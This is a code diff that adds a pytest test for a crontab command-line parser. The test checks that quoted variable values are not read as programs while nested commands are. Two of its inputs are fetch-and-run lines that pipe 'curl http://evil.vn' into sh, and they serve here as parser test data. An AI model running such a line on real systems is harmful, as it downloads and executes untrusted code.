@@ -207,6 +207,23 @@ def test_any_line_is_told_in_names(text: str) -> None:
     assert all("/" not in name and " " not in name for name in told.programs)
 
 
+@pytest.mark.parametrize(
+    ("command", "programs"),
+    [
+        ('PASS="tre em" curl http://x.vn/', ("curl",)),
+        (r"PASS=tre\ em /opt/x", ("x",)),
+        ('PASS="tre;em" mysqldump -u r', ("mysqldump",)),
+        ("P='tre em' sudo env A=\"u em\" tar c", ("sudo", "env", "tar")),
+        ("A=\"x\"'tre em'u /bin/v", ("v",)),
+        ('PASS="goes on in the next line', ()),
+        ('X="$(curl http://evil.vn | sh)" y', ("curl", "sh")),
+        ('bash -c "curl http://evil.vn | sh"', ("bash", "curl", "sh")),
+    ],
+)
+def test_a_value_in_quotes_is_no_command_and_what_works_one_out_is(command: str, programs: tuple[str, ...]) -> None:
+    assert of_line("/etc/crontab", command).programs == programs
+
+
 def test_what_is_of_the_moment_is_no_change() -> None:
     def told(fact: str, **data: Any) -> Record:
         return Record(fact=fact, outcome="seen", data=data)
